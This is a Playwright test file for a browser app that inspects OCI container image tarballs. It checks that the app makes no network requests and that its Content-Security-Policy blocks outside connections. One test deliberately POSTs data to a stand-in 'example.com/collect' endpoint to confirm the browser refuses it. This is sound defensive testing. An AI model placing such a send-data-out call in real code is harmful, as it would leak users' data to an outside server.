import { readFile } from 'node:fs/promises';

import { expect, test } from './support/app-page.ts';

const SAMPLE = new URL('../public/samples/hello-layers.oci.tar', import.meta.url);

test('once the page has loaded it asks for nothing more: not to open an image, not to look into it, not to export', async ({
  app,
  page,
}) => {
  await app.load();
  const requests: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('blob:')) requests.push(`${request.method()} ${request.url()}`);
  });
  await app.open('shop.tar', await readFile(SAMPLE));
  await app.entry('RUN chown').click();
  await app.idle();
  await app.exportReport();
  expect(requests).toEqual([]);
});

test('the policy of the page forbids talking to any other server', async ({ app, page }) => {
  await app.load();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("connect-src 'self'");
  const outcome = await page.evaluate(async () => {
    const violation = new Promise<string>((resolve) => {
      document.addEventListener('securitypolicyviolation', (event) => {
        resolve(`${event.effectiveDirective} ${event.blockedURI}`);
      });
    });
    const answer = await fetch('https://example.com/collect', { method: 'POST', body: 'bytes' }).then(
      () => 'sent',
      () => 'refused',
    );
    return { answer, violation: await violation };
  });
  expect(outcome.answer).toBe('refused');
  expect(outcome.violation).toMatch(/^connect-src https:\/\/example\.com/);
});
